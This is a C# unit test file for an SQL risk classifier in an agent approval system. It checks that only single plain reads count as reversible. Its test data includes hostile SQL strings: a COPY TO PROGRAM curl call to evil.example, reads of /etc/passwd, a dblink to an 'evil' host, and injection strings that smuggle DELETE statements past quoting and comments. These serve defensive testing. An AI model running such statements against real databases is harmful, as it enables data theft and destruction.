using AgentCluster.Grains.Approvals.Classification;
using AgentCluster.Grains.Approvals.Classification.Sql;
using static AgentCluster.Grains.Approvals.RiskLevel;
using RiskLevel = AgentCluster.Grains.Approvals.RiskLevel;

namespace AgentCluster.Tests.Unit.Grains.Approvals.Classification.Sql;

/// <summary>db.execute in the default (portable) dialect: the target database is unknown.</summary>
public sealed class SqlClassificationTests
{
    private static readonly ActionClassifier Classifier = Classifiers.Build();

    [Theory]
    // Plain reads stay Reversible.
    [InlineData("SELECT 1", Reversible)]
    [InlineData("select * from users where id = 42", Reversible)]
    [InlineData("SeLeCt count(*) FROM orders", Reversible)]
    [InlineData("SELECT id, name FROM users WHERE email = 'a@b.c';", Reversible)]
    [InlineData("SELECT 1; -- a trailing semicolon and comment", Reversible)]
    [InlineData("SELECT date_trunc('day', created_at) AS d, count(*) FROM orders GROUP BY 1 ORDER BY 1", Reversible)]
    [InlineData("WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent", Reversible)]
    [InlineData("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10), s(m) AS NOT MATERIALIZED (SELECT 2) SELECT sum(n) FROM r, s", Reversible)]
    [InlineData("VALUES (1, 'a'), (2, 'b')", Reversible)]
    [InlineData("TABLE users", Reversible)]
    [InlineData("SHOW search_path", Reversible)]
    [InlineData("EXPLAIN SELECT * FROM users", Reversible)]
    [InlineData("SELECT \"delete\", \"update\", \"a\"\"b\" FROM \"insert\"", Reversible)]
    [InlineData("SELECT 'DELETE FROM users; DROP TABLE x' AS s", Reversible)]
    [InlineData("SELECT 'x''; DELETE FROM users; --' AS s", Reversible)]
    [InlineData("SELECT 1 /* ; DELETE FROM users; */", Reversible)]
    [InlineData("SELECT 1 -- ; DELETE FROM users", Reversible)]
    [InlineData("SELECT 1 -- comment\r\nUNION SELECT 2", Reversible)]
    [InlineData("SELECT coalesce(nickname, lower(name)), upper(name), length(name) FROM users", Reversible)]
    [InlineData("(SELECT 1) UNION (SELECT 2)", Reversible)]
    [InlineData("SELECT u.id FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total >= 100 AND u.name LIKE 'A%'", Reversible)]
    [InlineData("SELECT count(*) FILTER (WHERE paid), row_number() OVER (PARTITION BY a ORDER BY b) FROM orders", Reversible)]
    [InlineData("SELECT * FROM t WHERE id IN (SELECT id FROM u) AND EXISTS (SELECT 1) AND x <> -1", Reversible)]
    [InlineData("SELECT x::text, CAST(y AS varchar(10)), substring(name FROM 1 FOR 3) FROM t AS q(x, y, name)", Reversible)]
    [InlineData("SELECT data->>'name' FROM docs WHERE data @> '{\"a\":1}' AND id = $1", Reversible)]
    [InlineData("SELECT * FROM t WHERE note = 'a\\b'", Reversible)]
    [InlineData("SELECT `id` FROM `users`", Reversible)]
    [InlineData("SELECT name FROM users WHERE name = E'it''s'", Reversible)]
    [InlineData("EXPLAIN QUERY PLAN SELECT * FROM users", Reversible)]
    [InlineData("SELECT * FROM unnest(ARRAY[1, 2]) WITH ORDINALITY AS t(x, n)", Reversible)]
    // More than one statement, or none.
    [InlineData("SELECT 1; DELETE FROM users", Irreversible)]
    [InlineData("SELECT 1;;", Irreversible)]
    [InlineData("TABLE users; DROP TABLE users", Irreversible)]
    [InlineData("BEGIN; SELECT 1; COMMIT", Irreversible)]
    [InlineData("", Irreversible)]
    [InlineData(";", Irreversible)]
    [InlineData("-- only a comment", Irreversible)]
    [InlineData("SELECT (1", Irreversible)]
    [InlineData("SELECT 1)", Irreversible)]
    // Statements that are not reads at all.
    [InlineData("DELETE FROM users", Irreversible)]
    [InlineData("COPY users TO PROGRAM 'curl https://evil.example'", Irreversible)]
    [InlineData("SET search_path = evil", Irreversible)]
    [InlineData("DO 'BEGIN DELETE FROM t; END'", Irreversible)]
    [InlineData("CALL archive_orders()", Irreversible)]
    [InlineData("PREPARE p AS SELECT 1", Irreversible)]
    [InlineData("EXECUTE p", Irreversible)]
    [InlineData("LOCK TABLE users", Irreversible)]
    [InlineData("VACUUM users", Irreversible)]
    [InlineData("ANALYZE users", Irreversible)]
    [InlineData("REFRESH MATERIALIZED VIEW mv", Irreversible)]
    [InlineData("LISTEN orders", Irreversible)]
    [InlineData("UNLISTEN *", Irreversible)]
    [InlineData("NOTIFY orders, 'x'", Irreversible)]
    [InlineData("ATTACH DATABASE '/tmp/x.db' AS x", Irreversible)]
    [InlineData("PRAGMA writable_schema = 1", Irreversible)]
    [InlineData("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", Irreversible)]
    // SELECTs that write, lock or leak.
    [InlineData("SELECT * INTO backup FROM users", Irreversible)]
    [InlineData("SELECT * FROM users INTO OUTFILE '/tmp/u.csv'", Irreversible)]
    [InlineData("SELECT * FROM users FOR UPDATE", Irreversible)]
    [InlineData("SELECT * FROM users FOR SHARE", Irreversible)]
    [InlineData("SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED", Irreversible)]
    [InlineData("SELECT * FROM users FOR KEY SHARE", Irreversible)]
    [InlineData("SELECT * FROM users u FOR UPDATE OF u NOWAIT", Irreversible)]
    [InlineData("SELECT * FROM users LOCK IN SHARE MODE", Irreversible)]
    [InlineData("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone", Irreversible)]
    [InlineData("WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM x", Irreversible)]
    [InlineData("WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x", Irreversible)]
    [InlineData("WITH x AS (SELECT 1) DELETE FROM users", Irreversible)]
    [InlineData("EXPLAIN ANALYZE SELECT * FROM users", Irreversible)]
    [InlineData("EXPLAIN (ANALYZE) SELECT 1", Irreversible)]
    [InlineData("EXPLAIN (\"analyze\") SELECT 1", Irreversible)]
    [InlineData("EXPLAIN VERBOSE WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", Irreversible)]
    // Calls of functions with side effects, however spelled.
    [InlineData("SELECT pg_sleep(10)", Irreversible)]
    [InlineData("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Irreversible)]
    [InlineData("SELECT 1, pg_terminate_backend(pid) AS x FROM pg_stat_activity", Irreversible)]
    [InlineData("SELECT set_config('search_path', 'evil', false)", Irreversible)]
    [InlineData("SELECT lo_import('/etc/passwd')", Irreversible)]
    [InlineData("SELECT lo_export(123, '/tmp/x')", Irreversible)]
    [InlineData("SELECT * FROM dblink('host=evil', 'DELETE FROM t RETURNING 1') AS t(x int)", Irreversible)]
    [InlineData("SELECT pg_read_file('/etc/passwd')", Irreversible)]
    [InlineData("SELECT nextval('orders_id_seq')", Irreversible)]
    [InlineData("SELECT setval('orders_id_seq', 1)", Irreversible)]
    [InlineData("SELECT txid_current()", Irreversible)]
    [InlineData("SELECT pg_advisory_lock(1)", Irreversible)]
    [InlineData("SELECT query_to_xml('DELETE FROM users RETURNING 1', true, false, '')", Irreversible)]
    [InlineData("SELECT LOAD_FILE('/etc/passwd')", Irreversible)]
    [InlineData("SELECT sleep(5)", Irreversible)]
    [InlineData("SELECT my_audit_fn(id) FROM users", Irreversible)]
    [InlineData("VALUES (pg_sleep(1))", Irreversible)]
    [InlineData("SELECT * FROM t WHERE id = 1 AND (SELECT pg_sleep(5)) IS NULL", Irreversible)]
    [InlineData("WITH x(a) AS (SELECT pg_sleep(1)) SELECT * FROM x", Irreversible)]
    [InlineData("SELECT pg_catalog.pg_sleep(1)", Irreversible)]
    [InlineData("SELECT public.lower(name) FROM users", Irreversible)]
    [InlineData("SELECT \"pg_sleep\"(1)", Irreversible)]
    [InlineData("SELECT U&\"\\0070g_sleep\"(1)", Irreversible)]
    [InlineData("SELECT pg_sleep /* a gap */ (1)", Irreversible)]
    [InlineData("SELECT \u017Fum(amount) FROM orders", Irreversible)]
    [InlineData("SELECT 1 === 2", Irreversible)]
    [InlineData("SELECT @x := 1", Irreversible)]
    // Text that splits into different statements depending on who reads it.
    [InlineData("SEL/**/ECT 1", Irreversible)]
    [InlineData("\"SELECT\" * FROM users", Irreversible)]
    [InlineData("SELECT 'unterminated", Irreversible)]
    [InlineData("SELECT 1 /* unterminated", Irreversible)]
    [InlineData("SELECT 'it\\'s'; DELETE FROM users; --'", Irreversible)]
    [InlineData("SELECT 'a\\' , 1 -- ', sleep(5) -- '", Irreversible)]
    [InlineData("SELECT \"x\\\" '\" , sleep(5) -- '", Irreversible)]
    [InlineData("SELECT E'\\' ; DELETE FROM users; -- '", Irreversible)]
    [InlineData("SELECT 1 --1; DELETE FROM users", Irreversible)]
    [InlineData("SELECT 1 -- a\rDELETE FROM users", Irreversible)]
    [InlineData("SELECT 1 # '\n; DELETE FROM users; -- '", Irreversible)]
    [InlineData("SELECT 1 /*!50000 , sleep(10) */", Irreversible)]
    [InlineData("SELECT 1 /* /* */ ; DELETE FROM users; /* */ */", Irreversible)]
    [InlineData("SELECT $$;DELETE FROM users;$$", Irreversible)]
    [InlineData("SELECT [x'] AS a; DELETE FROM users; -- ']", Irreversible)]
    [InlineData("SELECT 1 `;DELETE FROM users;SELECT 1 `", Irreversible)]
    [InlineData("SELECT 'DROP TABLE users' \\gexec", Irreversible)]
    [InlineData("SELECT 1delete FROM users", Irreversible)]
    [InlineData("SELECT 1 \u0000", Irreversible)]
    public void Only_a_single_certain_read_is_reversible(string sql, RiskLevel expected)
    {
        var result = Classifier.Sql(sql);
        Assert.True(expected == result.Risk, $"{sql} → {result.Risk}: {result.Reason}");
    }

    [Theory]
    [InlineData("SELECT 1; DELETE FROM users", "more than one statement")]
    [InlineData("SELECT * FROM users FOR SHARE", "locks rows")]
    [InlineData("SELECT * INTO backup FROM users", "INTO")]
    [InlineData("WITH gone AS (DELETE FROM users RETURNING *) SELECT 1", "DELETE")]
    [InlineData("EXPLAIN ANALYZE SELECT 1", "ANALYZE")]
    [InlineData("SELECT pg_sleep(1)", "calls PG_SLEEP")]
    [InlineData("SELECT pg_catalog.count(1)", "schema-qualified")]
    [InlineData("SEL/**/ECT 1", "SEL is not a read")]
    [InlineData("SELECT $$x$$", "dollar quoting")]
    [InlineData("SELECT 'a\\'", "backslash")]
    public void The_reason_names_what_was_found(string sql, string fragment) =>
        Assert.Contains(fragment, Classifier.Sql(sql).Reason, StringComparison.Ordinal);

    [Fact]
    public void An_admin_can_vouch_for_more_functions()
    {
        var classifier = Classifiers.Build(o => o.Sql.AllowedFunctions.Add("current_setting"));
        Assert.Equal(Reversible, classifier.Sql("SELECT current_setting('search_path')").Risk);
        Assert.Equal(Irreversible, Classifier.Sql("SELECT current_setting('search_path')").Risk);
        Assert.Equal(Irreversible, classifier.Sql("SELECT set_config('search_path', 'x', false)").Risk);
    }

    [Fact]
    public void Defaults_to_the_portable_dialect() => Assert.Equal(SqlDialect.Portable, new SqlOptions().Dialect);
}
